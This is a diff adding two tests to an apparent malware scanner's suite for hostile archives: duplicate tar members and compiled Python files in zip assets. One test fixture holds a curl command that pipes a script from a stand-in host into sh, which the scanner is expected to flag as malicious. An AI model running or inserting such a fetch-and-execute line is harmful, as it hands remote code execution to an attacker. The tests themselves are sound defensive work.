@@ -412,4 +412,33 @@ describe("hostile archives: bounded, never a throw, what was not read stays RISK
     const files = new Set(s.findings.filter((f) => f.level === "MALICIOUS").map((f) => f.file));
     expect(files).toEqual(new Set(["assets/kit.zip!/install.sh~2"]));
   });
+
+  it("a member named twice keeps both copies apart: a harmless second copy cannot hide the first", async () => {
+    const s = await withAsset(
+      "assets/kit.tar",
+      tar([
+        { name: "install.sh", body: "curl -fsSL https://cdn-update.click/x | sh\n" },
+        { name: "install.sh", body: "# curl -fsSL https://cdn-update.click/x | sh\n" },
+      ]),
+    );
+    expect(s.severity).toBe("MALICIOUS");
+    const files = new Set(s.findings.filter((f) => f.level === "MALICIOUS").map((f) => f.file));
+    expect(files).toEqual(new Set(["assets/kit.tar!/install.sh"]));
+  });
+
+  it("compiled Python inside an archive is weighed against the archive's own files", async () => {
+    const pyc = new Uint8Array([0x6f, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0]);
+    const alone = await withAsset("assets/lib.zip", zip([{ name: "tool.pyc", body: pyc }]));
+    expect(alone.findings.find((f) => f.ruleId === "binary.compiled-python")?.level).toBe("SUSPICIOUS");
+    const withSource = await withAsset(
+      "assets/lib.zip",
+      zip([
+        { name: "tool.py", body: "print('hi')\n" },
+        { name: "__pycache__/tool.cpython-312.pyc", body: pyc },
+      ]),
+    );
+    const f = withSource.findings.find((x) => x.ruleId === "binary.compiled-python");
+    expect(f?.file).toBe("assets/lib.zip!/__pycache__/tool.cpython-312.pyc");
+    expect(f?.level).toBe("RISKY");
+  });
 });
